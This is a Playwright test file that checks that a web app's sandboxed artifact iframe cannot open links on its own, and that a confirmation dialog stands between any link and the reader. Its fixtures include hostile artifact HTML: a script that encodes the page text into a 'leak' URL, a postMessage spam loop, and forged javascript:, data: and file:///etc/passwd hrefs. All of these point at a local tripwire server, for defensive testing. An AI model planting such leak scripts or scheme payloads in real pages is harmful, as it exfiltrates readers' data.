import type { FrameLocator, Page } from '@playwright/test';
import { createArtifact, expect, test, type ApiCall } from '../fixtures/server';
import { startTripwire, type Tripwire } from '../fixtures/tripwire';
import { pushVersion } from '../versions/pages';

/**
 * A link out of an artifact opens only from the app's own confirmation: the
 * frame runs untrusted code that can post `open-link` itself (after any click
 * in the frame the app has user activation), so a message only ever asks. The
 * app shows the destination outside the frame, and nothing opens until the
 * reader presses its Open button. The tripwire is the destination, so a tab
 * that does open is seen, and a request that gets through is counted.
 */
let tripwire: Tripwire;
test.beforeEach(async () => {
  tripwire = await startTripwire();
});
test.afterEach(async () => {
  await tripwire.close();
});

/** Every tab the context opens, by URL. */
function watchPopups(page: Page): string[] {
  const popups: string[] = [];
  page.context().on('page', (opened) => popups.push(opened.url()));
  return popups;
}

/** Polls `problem` for a while and passes only if it stayed null all along. */
async function expectQuiet(problem: () => string | null | Promise<string | null>, message: string): Promise<void> {
  const quietUntil = Date.now() + 1_500;
  await expect
    .poll(async () => (await problem()) ?? (Date.now() >= quietUntil ? 'quiet' : 'waiting'), { intervals: [100], timeout: 10_000, message })
    .toBe('quiet');
}

/**
 * An artifact that posts its own `open-link` on every click in its page, with
 * the page's text in the URL, the way a hostile page would leak it. The frame
 * counts what it sent in #sent.
 */
function forgingArtifact(destination: string, extra = ''): string {
  return `<!doctype html><html><body>
    <h1>Quarterly numbers</h1>
    <p id="plain">Revenue 4.2M, churn 3.1%. Click anywhere.</p>
    <p id="sent">0</p>
    ${extra}
    <script>
      let sent = 0;
      document.addEventListener('click', (event) => {
        if (event.target.closest('a')) return;
        const data = encodeURIComponent(document.getElementById('plain').textContent);
        parent.postMessage({ loupe: 1, type: 'open-link', href: ${JSON.stringify(destination)} + '?page=' + data }, '*');
        document.getElementById('sent').textContent = String(++sent);
      });
    </script>
  </body></html>`;
}

const LEAK_PATH = '/leak?page=Revenue%204.2M%2C%20churn%203.1%25.%20Click%20anywhere.';

function linkDialog(page: Page) {
  const dialog = page.getByRole('dialog', { name: 'Open this link?' });
  return {
    dialog,
    destination: dialog.getByTestId('link-destination'),
    host: dialog.getByTestId('link-host'),
    open: dialog.getByRole('button', { name: 'Open link' }),
    cancel: dialog.getByRole('button', { name: 'Cancel' }),
  };
}

async function openLive(page: Page, api: ApiCall, html: string, title: string): Promise<FrameLocator> {
  const id = await createArtifact(api, { title, html });
  await page.goto(`/a/${id}`);
  const frame = page.frameLocator('main iframe');
  await expect(frame.locator('h1, #real').first()).toBeVisible();
  return frame;
}

test('an artifact posting its own open-link after a click in its page opens nothing: the app asks, showing the destination, and Cancel opens nothing', async ({ page, api, signIn }) => {
  await signIn(page);
  const popups = watchPopups(page);
  const frame = await openLive(page, api, forgingArtifact(`${tripwire.origin}/leak`), 'Forged link');

  await frame.locator('#plain').click();
  await expect(frame.locator('#sent')).toHaveText('1');
  const ask = linkDialog(page);
  await expect(ask.dialog).toBeVisible();
  await expect(ask.destination).toHaveText(`${tripwire.origin}${LEAK_PATH}`);
  await expect(ask.host).toHaveText(`127.0.0.1:${tripwire.port}`);
  await expect(ask.cancel).toBeFocused();
  expect(popups, 'nothing opened before the reader chose').toEqual([]);

  await ask.cancel.click();
  await expect(ask.dialog).toBeHidden();
  await expectQuiet(() => (popups.length > 0 ? `a tab opened: ${popups.join(', ')}` : null), 'no tab opens after Cancel');
  expect(tripwire.requests()).toEqual([]);
  expect(page.url()).toMatch(/\/a\/[^/]+$/);
});

test('the version view asks the same way: a forged open-link opens nothing, and Escape cancels', async ({ page, api, signIn }) => {
  await signIn(page);
  const popups = watchPopups(page);
  const html = forgingArtifact(`${tripwire.origin}/leak`);
  const id = await createArtifact(api, { title: 'Forged link, versioned', html });
  const n = await pushVersion(api, id, html, 'first cut');
  await page.goto(`/a/${id}/v/${n}`);
  const frame = page.frameLocator('main iframe');

  await frame.locator('#plain').click();
  const ask = linkDialog(page);
  await expect(ask.dialog).toBeVisible();
  await expect(ask.destination).toHaveText(`${tripwire.origin}${LEAK_PATH}`);
  await page.keyboard.press('Escape');
  await expect(ask.dialog).toBeHidden();
  await expectQuiet(() => (popups.length > 0 ? `a tab opened: ${popups.join(', ')}` : null), 'no tab opens after Escape');
  expect(tripwire.requests()).toEqual([]);
});

test('a frame spamming open-link gets one dialog, keeps its first destination, and cannot bring it back after Cancel', async ({ page, api, signIn }) => {
  await signIn(page);
  const popups = watchPopups(page);
  const html = `<!doctype html><html><body>
    <h1>Spam</h1>
    <p id="plain">Click anywhere.</p>
    <p id="sent">0</p>
    <script>
      let sent = 0;
      document.addEventListener('click', () => {
        const spam = setInterval(() => {
          sent += 1;
          parent.postMessage({ loupe: 1, type: 'open-link', href: ${JSON.stringify(tripwire.origin)} + '/spam/' + sent }, '*');
          document.getElementById('sent').textContent = String(sent);
          if (sent >= 400) clearInterval(spam);
        }, 10);
      }, { once: true });
    </script>
  </body></html>`;
  const frame = await openLive(page, api, html, 'Spam');

  await frame.locator('#plain').click();
  const ask = linkDialog(page);
  await expect(ask.dialog).toBeVisible();
  await expect.poll(async () => Number(await frame.locator('#sent').textContent())).toBeGreaterThan(50);
  await expect(page.getByRole('dialog')).toHaveCount(1);
  await expect(ask.destination).toHaveText(`${tripwire.origin}/spam/1`);

  // The reader's click on Cancel activates the page again; the spam that follows must not ask again.
  await ask.cancel.click();
  await expect(ask.dialog).toBeHidden();
  const sentAtCancel = Number(await frame.locator('#sent').textContent());
  await expectQuiet(async () => {
    if (popups.length > 0) return `a tab opened: ${popups.join(', ')}`;
    const dialogs = await page.getByRole('dialog').count();
    return dialogs > 0 ? `${dialogs} dialog(s) showing again` : null;
  }, 'no dialog and no tab while the frame keeps posting');
  expect(Number(await frame.locator('#sent').textContent()), 'the frame kept posting').toBeGreaterThan(sentAtCancel + 20);
  expect(tripwire.requests()).toEqual([]);
});

test('a real link click asks first; Open opens exactly that URL in one new tab, with no opener or referrer', async ({ page, api, signIn }) => {
  await signIn(page);
  const popups = watchPopups(page);
  const html = `<!doctype html><html><body>
    <h1>Docs</h1>
    <p><a id="real" href="${tripwire.origin}/real?q=1">Read the docs</a></p>
  </body></html>`;
  const frame = await openLive(page, api, html, 'Links');

  await frame.locator('#real').click();
  const ask = linkDialog(page);
  await expect(ask.destination).toHaveText(`${tripwire.origin}/real?q=1`);
  expect(popups).toEqual([]);
  await expect(ask.open).toBeEnabled();
  const [popup] = await Promise.all([page.context().waitForEvent('page'), ask.open.click()]);
  await expect.poll(() => popup.url()).toBe(`${tripwire.origin}/real?q=1`);
  await expect(ask.dialog).toBeHidden();
  expect(await popup.evaluate(() => ({ opener: window.opener !== null, referrer: document.referrer }))).toEqual({ opener: false, referrer: '' });
  await expectQuiet(() => (popups.length > 1 ? `more than one tab: ${popups.join(', ')}` : null), 'exactly one tab opens');
  expect(popups).toEqual([`${tripwire.origin}/real?q=1`]);
  // The browser asks the new tab's origin for its icon too.
  expect(tripwire.requests().filter((request) => !request.startsWith('GET /favicon.ico'))).toEqual(['GET /real?q=1']);
  expect(page.url()).toMatch(/\/a\/[^/]+$/);
});

test('from the keyboard: Enter on a link asks with Cancel focused, Escape cancels, and Tab then Enter on Open opens it', async ({ page, api, signIn }) => {
  await signIn(page);
  const popups = watchPopups(page);
  const html = `<!doctype html><html><body>
    <h1>Docs</h1>
    <p id="plain">Start here.</p>
    <p><a id="real" href="${tripwire.origin}/keys">Read the docs</a></p>
  </body></html>`;
  const frame = await openLive(page, api, html, 'Keyboard links');
  const ask = linkDialog(page);
  const link = frame.locator('#real');

  // A click on the text puts focus in the frame; Tab moves on to the link.
  await frame.locator('#plain').click();
  await page.keyboard.press('Tab');
  await expect(link).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(ask.destination).toHaveText(`${tripwire.origin}/keys`);
  await expect(ask.cancel).toBeFocused();
  await page.keyboard.press('Escape');
  await expect(ask.dialog).toBeHidden();
  expect(popups).toEqual([]);

  await frame.locator('#plain').click();
  await page.keyboard.press('Tab');
  await expect(link).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(ask.cancel).toBeFocused();
  await expect(ask.open).toBeEnabled();
  await page.keyboard.press('Tab');
  await expect(ask.open).toBeFocused();
  const [popup] = await Promise.all([page.context().waitForEvent('page'), page.keyboard.press('Enter')]);
  await expect.poll(() => popup.url()).toBe(`${tripwire.origin}/keys`);
  await expectQuiet(() => (popups.length > 1 ? `more than one tab: ${popups.join(', ')}` : null), 'exactly one tab opens');
});

test('javascript:, data: and other schemes never ask or open; an http link posted after them is the one asked about', async ({ page, api, signIn }) => {
  await signIn(page);
  const popups = watchPopups(page);
  const html = `<!doctype html><html><body>
    <h1>Schemes</h1>
    <p id="plain">Click anywhere.</p>
    <p><a id="js" href="javascript:void 0">js</a> <a id="data" href="data:text/html,hi">data</a></p>
    <script>
      document.addEventListener('click', (event) => {
        if (event.target.closest('a')) return;
        for (const href of ['javascript:alert(1)', 'data:text/html,<p>hi</p>', 'blob:null/abc', 'file:///etc/passwd', 'mailto:someone@example.com', '/relative', 'ftp://127.0.0.1/']) {
          parent.postMessage({ loupe: 1, type: 'open-link', href }, '*');
        }
        parent.postMessage({ loupe: 1, type: 'open-link', href: ${JSON.stringify(`${tripwire.origin}/after`)} }, '*');
      });
    </script>
  </body></html>`;
  const frame = await openLive(page, api, html, 'Schemes');
  const ask = linkDialog(page);

  // Links the frame itself never forwards.
  await frame.locator('#js').click();
  await frame.locator('#data').click();
  // Forged messages: one dialog at a time, so had any of the first ones asked, it would still be showing.
  await frame.locator('#plain').click();
  await expect(ask.destination).toHaveText(`${tripwire.origin}/after`);
  await expect(page.getByRole('dialog')).toHaveCount(1);
  await ask.cancel.click();
  await expectQuiet(() => (popups.length > 0 ? `a tab opened: ${popups.join(', ')}` : null), 'nothing opens');
  expect(tripwire.requests()).toEqual([]);
});
